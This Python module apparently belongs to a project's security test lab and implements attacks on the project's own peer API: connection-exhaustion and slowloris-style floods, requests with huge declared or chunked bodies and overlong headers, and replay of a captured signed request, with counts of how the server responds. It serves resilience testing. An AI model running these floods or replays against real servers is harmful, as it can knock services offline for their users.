"""Attacks on the peer API (port 6480) from the attacker machine (no token).

- ``api-idle``: open ``--count`` TCP connections and send nothing;
- ``api-slow``: open ``--count`` connections and trickle a request head, a byte per second;
- ``api-big``: requests with huge declared bodies, a GET with a body, a chunked flood;
- ``api-replay``: send a captured signed request (raw bytes from ``--request-file``) again.

Connections are plain non-blocking sockets on the attacker's own address, reopened when the
server closes them, for ``--duration`` seconds. The ``done`` line says how many connections
the server let stay open at the end, how many it reset or closed, and the status lines seen.
"""

from __future__ import annotations

import argparse
import contextlib
import errno
import resource
import selectors
import socket
import time
from collections import Counter
from collections.abc import Callable
from pathlib import Path
from typing import Any

from tests.lab.attacker import MAX_DURATION, emit

MAX_CONNECTIONS = 5000
DRAIN = 2.0  # seconds after the attack in which the server may still close what it refuses


def _target(text: str) -> tuple[str, int]:
    host, _, port = text.rpartition(":")
    return host, int(port)


def _raise_fd_limit(n: int) -> None:
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    want = min(hard, max(soft, n + 100))
    resource.setrlimit(resource.RLIMIT_NOFILE, (want, hard))


def _connect(target: tuple[str, int]) -> socket.socket | None:
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.setblocking(False)
    try:
        s.connect(target)
    except BlockingIOError:
        pass
    except OSError:
        s.close()
        return None
    return s


def hold(args: argparse.Namespace, *, trickle: bytes | None) -> dict[str, int]:
    """Keep up to ``count`` connections open (topping up once a second) for ``duration`` s,
    then count, after ``DRAIN`` seconds, how many the server still keeps open."""
    count = min(args.count, MAX_CONNECTIONS)
    _raise_fd_limit(count)
    target = _target(args.target)
    sel = selectors.DefaultSelector()
    socks: dict[socket.socket, int] = {}  # socket -> bytes of the trickle sent
    closed = opened = 0
    end = time.monotonic() + min(args.duration, MAX_DURATION)
    next_trickle = next_top_up = time.monotonic()
    while (now := time.monotonic()) < end + DRAIN:
        if now < end and now >= next_top_up:  # top up to ``count``, once a second
            next_top_up = now + 1.0
            while len(socks) < count:
                s = _connect(target)
                opened += 1
                if s is None:
                    break
                socks[s] = 0
                sel.register(s, selectors.EVENT_READ)
        for key, _ in sel.select(timeout=0.2):
            conn = key.fileobj
            assert isinstance(conn, socket.socket)
            try:
                data = conn.recv(4096)
            except BlockingIOError:
                continue
            except OSError:
                data = b""
            if not data:  # reset or closed by the server
                closed += 1
                sel.unregister(conn)
                socks.pop(conn, None)
                conn.close()
        if trickle is not None and now < end and now >= next_trickle:
            next_trickle += 1.0
            for s, sent in list(socks.items()):
                with contextlib.suppress(OSError):
                    s.send(trickle[sent % len(trickle) : sent % len(trickle) + 1])
                    socks[s] = sent + 1
    still_open = sum(1 for s in socks if _alive(s))
    for s in socks:
        s.close()
    return {"opened": opened, "closed_by_server": closed, "open_at_end": still_open}


def _alive(s: socket.socket) -> bool:
    try:
        return s.recv(1, socket.MSG_PEEK) != b""
    except BlockingIOError:
        return True
    except OSError:
        return False


def api_idle(args: argparse.Namespace) -> dict[str, int]:
    return hold(args, trickle=None)


def api_slow(args: argparse.Namespace) -> dict[str, int]:
    head = b"GET /v1/peers HTTP/1.1\r\nHost: x\r\nX-Slow: " + b"a" * 4000
    return hold(args, trickle=head)


def _request(target: tuple[str, int], data: bytes, *, timeout: float = 5.0) -> str:
    """Send raw bytes; the status line of the answer, or what happened instead."""
    try:
        with socket.create_connection(target, timeout=timeout) as s:
            try:
                s.sendall(data)
            except OSError as exc:
                if exc.errno not in (errno.ECONNRESET, errno.EPIPE):
                    raise
            answer = s.recv(4096)
    except TimeoutError:
        return "timeout"
    except OSError as exc:
        return f"error {exc.errno}"
    return answer.split(b"\r\n", 1)[0].decode(errors="replace") or "closed"


def api_big(args: argparse.Namespace) -> dict[str, int]:
    target = _target(args.target)
    statuses: Counter[str] = Counter()
    cases = {
        "huge-length": b"POST /v1/peers HTTP/1.1\r\nHost: x\r\nContent-Length: 1073741824\r\n\r\n"
        + b"x" * 65536,
        "get-with-body": b"GET /v1/peers HTTP/1.1\r\nHost: x\r\nContent-Length: 100000\r\n\r\n"
        + b"y" * 100000,
        "chunked": b"GET /v1/peers HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n"
        + (b"8000\r\n" + b"z" * 0x8000 + b"\r\n") * 8,
        "long-header": b"GET /v1/peers HTTP/1.1\r\nHost: x\r\nX-A: " + b"a" * 100000 + b"\r\n\r\n",
    }
    for _ in range(min(args.rounds, 100)):
        for name, data in cases.items():
            status = _request(target, data)
            statuses[f"{name}: {status}"] += 1
    for line, n in sorted(statuses.items()):
        emit("answer", what=line, count=n)
    return {"requests": sum(statuses.values())}


def api_replay(args: argparse.Namespace) -> dict[str, int]:
    target = _target(args.target)
    data = Path(args.request_file).read_bytes()
    statuses: Counter[str] = Counter()
    for _ in range(min(args.count, 1000)):
        statuses[_request(target, data)] += 1
    for line, n in sorted(statuses.items()):
        emit("answer", what=line, count=n)
    accepted = sum(n for line, n in statuses.items() if " 200" in line)
    return {"requests": sum(statuses.values()), "accepted": accepted}


def add_commands(
    sub: Any, commands: dict[str, Callable[[argparse.Namespace], dict[str, int]]]
) -> None:
    for name in ("api-idle", "api-slow"):
        p = sub.add_parser(name)
        p.add_argument("--target", required=True, help="host:port")
        p.add_argument("--count", type=int, default=1000)
        p.add_argument("--duration", type=float, default=10.0)
    b = sub.add_parser("api-big")
    b.add_argument("--target", required=True)
    b.add_argument("--rounds", type=int, default=5)
    r = sub.add_parser("api-replay")
    r.add_argument("--target", required=True)
    r.add_argument("--request-file", required=True)
    r.add_argument("--count", type=int, default=10)
    commands.update(
        {"api-idle": api_idle, "api-slow": api_slow, "api-big": api_big, "api-replay": api_replay}
    )
